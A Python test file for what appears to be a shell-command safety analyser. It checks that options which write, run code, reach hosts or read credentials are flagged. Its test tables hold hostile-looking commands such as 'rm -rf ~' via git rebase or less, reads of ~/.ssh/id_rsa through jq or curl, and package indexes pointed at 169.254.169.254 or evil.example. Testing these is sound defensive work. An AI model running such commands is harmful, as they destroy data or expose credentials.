"""Option allow-lists (issue 13, root cause 2): an option a table does not know makes the
command unknown, an option that writes, runs, reaches or changes configuration says so, and
an abbreviation cannot pass for a harmless option. Root cause 5 lives in test_patterns.py."""

from __future__ import annotations

import pytest
from helpers import E, analyze, only
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.call.effects import Effect
from bastion.shell.programs.registry import PROGRAMS

# (command, an effect it must have, the argv index of the word that raised it)
RAISING: list[tuple[str, Effect, int]] = [
    ("tree -o .claude/settings.json", E.WRITE, 1),
    ("tree -R -H . -o x.html", E.WRITE, 1),
    ("git log --output=~/.bashrc", E.WRITE, 2),
    ("git log --out=~/.bashrc", E.UNKNOWN, 2),  # abbreviates several: git refuses it too
    ("git diff --output x", E.WRITE, 2),
    ("git log --ext-diff", E.CODE, 2),
    ("git log -p --textconv", E.CODE, 3),
    ("git show --ext-diff HEAD", E.CODE, 2),
    ("git grep -O x", E.CODE, 2),
    ("git grep --open-files-in-pager=vim x", E.CODE, 2),
    ("git diff --no-index /etc/passwd x", E.UNKNOWN, 2),
    ("git cat-file --textconv HEAD:x", E.CODE, 2),
    ("wc --files0-from=k", E.UNKNOWN, 1),
    ("du --files0-from=k", E.UNKNOWN, 1),
    ("sort --files0-from=k", E.UNKNOWN, 1),
    ("file -f list", E.UNKNOWN, 1),
    ("sha256sum -c sums", E.UNKNOWN, 1),
    ("sort --compress-program=X f", E.CODE, 1),
    ("sort --compress=X f", E.CODE, 1),  # abbreviation
    ("sort -o out f", E.WRITE, 1),
    ("sort --out=out f", E.WRITE, 1),
    ("sort -T /tmp/x f", E.WRITE, 1),
    ("rg --pre sh x", E.CODE, 1),
    ("rg -z x", E.CODE, 1),
    ("rg --hostname-bin=X x", E.UNKNOWN, 1),  # not an rg 13 option: unknown, never harmless
    ("sed '1e' f", E.CODE, 1),  # a bare e runs the line; '1e CMD' is CMD (test_escapes)
    ("sed -n '1e' f", E.CODE, 2),
    ("sed 'w out' f", E.WRITE, 1),
    ("sed '$W out' f", E.WRITE, 1),
    ("sed 's/a/b/w out' f", E.WRITE, 1),
    ("sed 's/a/&/e' f", E.CODE, 1),
    ("sed -e p -e 'e' f", E.CODE, 4),
    ("sed --expression='1e' f", E.CODE, 1),
    ("sed '/x/{e\n}' f", E.CODE, 1),
    ("sed 'y/abc' f", E.UNKNOWN, 1),  # a script the reader cannot follow
    ("sed -f script.sed f", E.UNKNOWN, 2),
    ("awk -e 'BEGIN{system(\"id\")}'", E.CODE, 2),
    ("awk '{print > \"out\"}' f", E.WRITE, 1),
    ("awk 'BEGIN{\"id\" | getline x}'", E.CODE, 1),
    ("awk -f prog.awk f", E.CODE, 1),
    ("gawk -i inplace '{print}' f", E.CODE, 1),
    ("find . -delete", E.DELETE, 2),
    ("find . -name x -fprint out", E.WRITE, 4),
    ("find . -fls out", E.WRITE, 2),
    ("find . -files0-from k", E.UNKNOWN, 2),
    ("find . -frobnicate", E.UNKNOWN, 2),
    ("date -s 2020-01-01", E.SYSTEM, 1),
    ("date --set=2020-01-01", E.SYSTEM, 1),
    ("dmesg -C", E.SYSTEM, 1),
    ("bat --pager=sh f", E.CODE, 1),
    ("fd -x rm", E.CODE, 1),
    ("fdfind --exec-batch rm", E.CODE, 1),
    ("diff3 --diff-program=x a b c", E.CODE, 1),
    ("sdiff -o out a b", E.WRITE, 1),
    ("iconv -o out f", E.WRITE, 1),
    ("printf -v x y", E.UNKNOWN, 1),
    ("less '+!rm -rf ~' f", E.UNKNOWN, 1),
    ("ls --frobnicate", E.UNKNOWN, 1),
    ("ls -Y", E.UNKNOWN, 1),
    ("ls -laY", E.UNKNOWN, 1),
    ("ls --all=yes", E.UNKNOWN, 1),  # a value given to a switch
    ("cat --bogus=1 f", E.UNKNOWN, 1),
    ("head --frob f", E.UNKNOWN, 1),
    ("grep -d recurse x", E.UNKNOWN, 1),
    ("jq --bogus . f", E.UNKNOWN, 1),
    ("git status --frob", E.UNKNOWN, 2),
    ("git -x status", E.UNKNOWN, 1),
    ("git frobnicate", E.UNKNOWN, 1),
    ("git log --frob", E.UNKNOWN, 2),
    ("git branch --frob", E.UNKNOWN, 2),
    ("npm config set registry http://x", E.WRITE, 2),
    ("go env -w GOFLAGS=-x", E.WRITE, 2),
    ("go env -u GOFLAGS", E.WRITE, 2),
    ("pip list --index-url http://169.254.169.254/", E.NETWORK, 2),
    ("pip list --extra-index-url=http://169.254.169.254/", E.NETWORK, 2),
    ("pip list --ind http://169.254.169.254/", E.NETWORK, 2),  # abbreviation
    ("npm view x --registry=http://169.254.169.254/", E.NETWORK, 3),
    ("docker -H tcp://169.254.169.254:2375 ps", E.NETWORK, 1),
    # a docker config folder names CLI plugin dirs (cliPluginsExtraDirs) docker runs: not a read
    ("docker --config ./d ps", E.UNKNOWN, 1),
    ("docker --config=./d images", E.UNKNOWN, 1),
    ("podman --config ./d ps", E.UNKNOWN, 1),
    ("kubectl --server=http://169.254.169.254 get pods", E.NETWORK, 1),
    ("make -C / clean", E.UNKNOWN, 1),
    ("make -f /tmp/evil.mk", E.UNKNOWN, 1),
    ("pytest --junit-xml=out.xml", E.WRITE, 1),
    ("npm install x", E.INSTALL, 1),
    ("git push", E.NETWORK, 1),
    ("git clone --upload-pack=x h:r", E.CODE, 2),
    ("git rebase -x 'rm -rf ~' main", E.CODE, 2),
    ("git fetch --upload-pack=x", E.CODE, 2),
]


@pytest.mark.parametrize(("command", "effect", "index"), RAISING)
def test_an_option_or_word_the_table_maps_to_a_stronger_effect_raises_it(
    command: str, effect: Effect, index: int
) -> None:
    # the command itself (what it runs, sed e's command, is classified beside it)
    c = next(x for x in analyze(command).commands if x.argv[:1] == (command.split()[0],))
    assert effect in c.effects, (c.effects, c.notes)
    assert (index, effect) in c.raising, c.raising
    assert not c.pure_reader


# Hosts hidden in option values reach the network policy.
HOSTS = [
    ("pip list --index-url http://169.254.169.254/", "169.254.169.254"),
    ("pip show --proxy http://10.0.0.9:3128 x", "10.0.0.9"),
    ("npm ls --registry=https://evil.example/", "evil.example"),
    ("docker -H tcp://169.254.169.254:2375 ps", "169.254.169.254"),
    ("docker --host=ssh://u@build.example ps", "build.example"),
    ("kubectl --server=http://169.254.169.254 get pods", "169.254.169.254"),
    ("kubectl -s https://k8s.example:6443 get pods", "k8s.example"),
    ("gpg --keyserver hkp://keys.example --recv-keys X", "keys.example"),
]


@pytest.mark.parametrize(("command", "host"), HOSTS)
def test_a_host_in_an_option_value_is_a_network_destination(command: str, host: str) -> None:
    c = only(command)
    assert host in c.hosts
    assert E.NETWORK in c.effects


def test_a_host_option_with_a_run_time_value_is_unknown() -> None:
    c = only("pip list --index-url $URL")
    assert E.UNKNOWN in c.effects and not c.pure_reader


# Caches: what looks like a read writes under the home directory and asks a registry.
CACHES = [
    ("pip list", "~/.cache/pip", "pypi.org"),
    ("npm ls", "~/.npm", "registry.npmjs.org"),
    ("npm view react", "~/.npm", "registry.npmjs.org"),
    ("npm outdated", "~/.npm", "registry.npmjs.org"),
    ("cargo tree", "~/.cargo", "index.crates.io"),
    ("cargo metadata --format-version 1", "~/.cargo", "index.crates.io"),
    ("go list ./...", "~/go/pkg/mod", "proxy.golang.org"),
]


@pytest.mark.parametrize(("command", "cache", "host"), CACHES)
def test_a_command_that_writes_a_cache_declares_the_write_and_the_host(
    command: str, cache: str, host: str
) -> None:
    c = only(command)
    assert [(p.path, p.access.value) for p in c.paths if p.path == cache] == [(cache, "write")]
    assert host in c.hosts
    assert {E.WRITE, E.NETWORK} <= c.effects and not c.pure_reader


# ... unless an option tells it to resolve nothing (each seen under strace: no socket, no write).
FETCHES_NOTHING = [
    "cargo metadata --no-deps --format-version 1",
    "pip list --disable-pip-version-check",
    "pip list --no-index --format=json",
]


@pytest.mark.parametrize("command", FETCHES_NOTHING)
def test_an_option_that_resolves_nothing_leaves_a_pure_reader(command: str) -> None:
    c = only(command)
    assert (c.paths, c.hosts, c.effects, c.pure_reader) == ((), (), frozenset({E.READ}), True)


# Resolving nothing does not undo an option that asks the registry itself.
@pytest.mark.parametrize(
    "command",
    ["pip list --outdated --disable-pip-version-check", "pip list -u --no-index", "cargo tree --offline"],
)
def test_a_listing_that_asks_the_registry_is_no_reader_whatever_else_it_says(command: str) -> None:
    c = only(command)
    assert E.NETWORK in c.effects and not c.pure_reader


# Files an option names are paths the policy checks (date -f k, k a link to a key).
PATH_VALUES = [
    ("date -f k", "k", "read"),
    ("date -r ~/.ssh/id_rsa", "~/.ssh/id_rsa", "read"),
    ("grep -f pats x f", "pats", "read"),
    ("grep --exclude-from=k x f", "k", "read"),
    ("sed '1r FILE' f", "FILE", "read"),
    ("sed '1R k' f", "k", "read"),
    ("jq --rawfile k ~/.ssh/id_rsa -n '$k'", "~/.ssh/id_rsa", "read"),
    ("jq --slurpfile k secrets.json -n .", "secrets.json", "read"),
    ("tree --fromfile --infofile=k", "k", "read"),
    ("git diff -O order", "order", "read"),
    ("git blame --contents=k x", "k", "read"),
    ("make -C sub", "sub", "read"),
    ("wc --files0-from=k", "k", "read"),
    ("tree -o out", "out", "write"),
    ("git log --output=out", "out", "write"),
    ("sed 'w out' f", "out", "write"),
]


@pytest.mark.parametrize(("command", "path", "access"), PATH_VALUES)
def test_a_file_named_by_an_option_or_a_script_is_a_checked_path(
    command: str, path: str, access: str
) -> None:
    c = only(command)
    assert (path, access) in [(p.path, p.access.value) for p in c.paths], c.paths


def test_a_credential_named_by_an_option_value_touches_credentials() -> None:
    c = only("jq --rawfile k ~/.ssh/id_rsa -n '$k'")
    assert E.CREDENTIALS in c.effects


# Recursive readers: their paths read everything below them; with none, the cwd.
RECURSIVE = [
    ("grep -rn x src", ["src"]),
    ("grep -R x", ["."]),
    ("grep -r x", ["."]),
    ("grep --recursive x a b", ["a", "b"]),
    ("rg x", ["."]),
    ("rg x src", ["src"]),
    ("rg --files", ["."]),
    ("find . -name x", ["."]),
    ("find src lib -type f", ["src", "lib"]),
    ("git grep x", ["."]),
    ("git grep -n x src", ["src"]),
    ("fd -e py", ["."]),
    ("ag x", ["."]),
    ("ack x lib", ["lib"]),
    ("diff -r a b", ["a", "b"]),
    ("tar czf out.tgz src docs", ["src", "docs"]),
]


@pytest.mark.parametrize(("command", "paths"), RECURSIVE)
def test_a_recursive_reader_marks_what_it_walks(command: str, paths: list[str]) -> None:
    c = only(command)
    assert sorted(p.path or "" for p in c.paths if p.recursive) == sorted(paths), c.paths


def test_a_plain_grep_reads_only_the_files_it_names() -> None:
    c = only("grep -n x a b")
    assert [(p.path, p.recursive) for p in c.paths] == [("a", False), ("b", False)]


# Known harmless options keep readers pure (approval fatigue).
PURE_WITH_OPTIONS = [
    "ls -la",
    "ls -lah --color=auto",
    "ls --sort=time -r",
    "ls -1",
    "head -20 f",
    "head --lines=5 f",
    "head --li=5 f",
    "tail -n +5 f",
    "tail -f log",
    "wc -lw f",
    "grep -rn --include='*.py' x .",
    "grep -E -o 'a|b' f",
    "grep --color=always x f",
    "sort -t, -k2,2n f",
    "sort -rn f",
    "cut -d: -f1 f",
    "du -sh --max-depth=1 .",
    "tree -L 2 -a -I node_modules",
    "rg -n -g '*.py' --hidden x",
    "rg -C2 x",
    "jq -r '.a' f",
    "jq --arg v 1 '.a == $v' f",
    "sed -n '1,20p' f",
    "sed -E 's/a+/b/g' f",
    "sed '/^$/d' f",
    "sed 's|a|b|2' f",
    "sed '1~2p' f",
    "sed '$!N;s/\\n/ /' f",
    "sed 'a\\\ntext' f",
    "sed '/x/,/y/{p}' f",
    "awk -F, '{print $2}' f",
    "awk -v n=1 'NR==n' f",
    "git log --oneline --graph --decorate --all -20",
    "git log --format='%h %s' --since=2.weeks",
    "git diff --stat --cached",
    "git diff --name-only HEAD~3",
    "git show --stat HEAD",
    "git branch -vv",
    "git status -sb",
    "git blame -L 1,10 f",
    "git rev-parse --abbrev-ref HEAD",
    "git ls-files -m",
    "git describe --tags --always",
    "git tag --sort=-creatordate",
    "git config --get remote.origin.url",
    "git reflog -10",
    "git stash list",
    "git remote -v",
    "git shortlog -sne",
    "find . -type f -newermt 2024-01-01",
    "find . -maxdepth 1 -name '*.md' -print0",
    "stat -c '%s %n' f",
    "date +%s",
    "date -u -d @0",
    "uname -srm",
    "df -hT",
    "ps -eo pid,comm",
    "xxd -l 64 f",
    "od -An -tx1 f",
    "file -b --mime-type f",
    "realpath --relative-to=. f",
    "nl -ba f",
    "make --version",
    "pytest --version",
    "npm --version",
]


@pytest.mark.parametrize("command", PURE_WITH_OPTIONS)
def test_a_reader_with_options_from_its_table_stays_a_pure_reader(command: str) -> None:
    a = analyze(command)
    assert a.decidable, a.errors
    for c in a.commands:
        assert c.pure_reader, (c.argv, c.effects, c.notes)
        assert c.raising == ()


def _readers_with_tables() -> list[str]:
    return sorted(
        n for n, s in PROGRAMS.items() if s.reader and s.known is not None and not s.subcommands and s.args
    )


_NAME = st.text(alphabet="abcdefghijklmnopqrstuvwxyz-", min_size=3, max_size=12).filter(
    lambda s: not s.startswith("-") and not s.endswith("-")
)


@settings(max_examples=300, derandomize=True)
@given(program=st.sampled_from(_readers_with_tables()), name=_NAME)
def test_no_option_outside_a_table_yields_a_pure_reader(program: str, name: str) -> None:
    """Any --long option a reader's table does not know, or that abbreviates several, is
    unknown; one that abbreviates a single known option means that option."""
    spec = PROGRAMS[program]
    known = spec.known or frozenset()
    option = f"--{name}"
    spellings = {*known, *spec.aliases}
    hits = {spec.aliases.get(k, k) for k in spellings if k.startswith(option) and k.startswith("--")}
    c = only(f"{program} {option} f")
    if option in spellings or len(hits) == 1:
        return  # a real option (or its unique abbreviation): judged by its table entry
    assert E.UNKNOWN in c.effects and not c.pure_reader, (program, option)


@settings(max_examples=200, derandomize=True)
@given(program=st.sampled_from(_readers_with_tables()), data=st.data())
def test_an_abbreviation_of_a_raising_option_is_never_harmless(program: str, data: st.DataObject) -> None:
    spec = PROGRAMS[program]
    raising = sorted(
        n
        for n, r in spec.flags.items()
        if n.startswith("--") and (r.effects or (r.value is not None and r.value.value != "read"))
    )
    if not raising:
        return
    option = data.draw(st.sampled_from(raising))
    cut = data.draw(st.integers(min_value=3, max_value=len(option)))
    c = only(f"{program} {option[:cut]}=x f")
    assert not c.pure_reader, (program, option[:cut])


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ("pip install --index-url http://169.254.169.254/simple x", "169.254.169.254"),
        ("pip install -i https://pypi.evil.example/simple x", "pypi.evil.example"),
        ("pip install --extra-index-url=http://10.1.2.3/ x", "10.1.2.3"),
        ("npm install --registry=http://169.254.169.254/ x", "169.254.169.254"),
        ("uv pip install --index-url http://169.254.169.254/ x", "169.254.169.254"),
    ],
)
def test_the_index_an_install_uses_is_a_network_destination(command: str, host: str) -> None:
    c = only(command)
    assert host in c.hosts and E.INSTALL in c.effects


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("curl --resolve x.io:443:169.254.169.254 https://x.io", E.UNKNOWN),
        ("curl --unix-socket /var/run/docker.sock http://x/", E.UNKNOWN),
        ("curl -K cfg https://x.io", E.UNKNOWN),
        ("curl -x http://10.0.0.1:3128 https://x.io", E.NETWORK),
        ("curl --bogus https://x.io", E.UNKNOWN),
        ("curl -O https://x.io/f", E.WRITE),
    ],
)
def test_curl_options_that_reroute_or_write_are_not_plain_fetches(command: str, effect: Effect) -> None:
    assert effect in only(command).effects


def test_writing_an_option_output_to_dev_null_writes_nothing() -> None:
    c = only("curl -s -o /dev/null -w '%{http_code}' https://x.io")
    assert c.effects == {E.NETWORK} and c.paths == () and c.raising == ()
    assert only("sort -o /dev/stdout f").pure_reader


def test_a_write_out_format_read_from_a_file_is_a_read_of_it() -> None:
    c = only("curl -w @~/.ssh/id_rsa https://x.io")
    assert ("~/.ssh/id_rsa", "read") in [(p.path, p.access.value) for p in c.paths]


@pytest.mark.parametrize("command", ["DOCKER_CONFIG=./d docker ps", "env DOCKER_CONFIG=./d docker images"])
def test_a_docker_config_folder_named_in_the_environment_is_not_a_read(command: str) -> None:
    c = only(command)
    assert E.UNKNOWN in c.effects and not c.pure_reader


def test_docker_without_a_config_folder_only_talks_to_its_daemon() -> None:
    assert only("docker ps").effects == {E.NETWORK}
